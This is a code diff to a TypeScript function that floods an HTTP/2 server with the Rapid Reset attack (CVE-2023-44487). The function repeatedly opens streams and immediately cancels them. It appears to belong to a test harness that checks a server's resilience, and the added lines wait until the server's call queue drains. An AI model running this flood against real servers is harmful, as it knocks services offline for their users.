@@ -40,7 +40,8 @@ const GARBAGE_SOCKETS = 50
 const LARGEST_MESSAGE_BYTES = 4 << 20
 
 /** Opens calls and resets them at once, over and over (CVE-2023-44487). */
-export const rapidReset: Flood = async ({ agent: { address } }, place) => {
+export const rapidReset: Flood = async (scene, place) => {
+  const { agent: { address } } = scene
   const cancel = Buffer.from([0, 0, 0, 8])
   const request = openRequest(undefined, 200)
   const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8))
@@ -52,7 +53,7 @@ export const rapidReset: Flood = async ({ agent: { address } }, place) => {
     for (let stream = 1, batches = 1; resets < RESETS && !socket.refused; batches++) {
       const calls: Buffer[] = []
       for (let count = 0; count < RESETS_AT_ONCE; count++, stream += 2, resets++) {
-        calls.push(callFrames(stream, { ...CALL_HEADERS, ':authority': address }, request), frame(FRAME.reset, 0, stream, cancel))
+        calls.push(callFrames(stream, address, CALL_HEADERS, request), frame(FRAME.reset, 0, stream, cancel))
       }
       // The answer says that the agent has got so far.
       await socket.say(Buffer.concat([...calls, ping]))
@@ -60,6 +61,7 @@ export const rapidReset: Flood = async ({ agent: { address } }, place) => {
     }
     socket.destroy()
   }
+  await until('nothing is left of the calls', async () => (await scene.queues()).length === 1, CLOSED_MS)
   process.stderr.write(`  ${resets} calls reset on ${connections} connections\n`)
 }
 
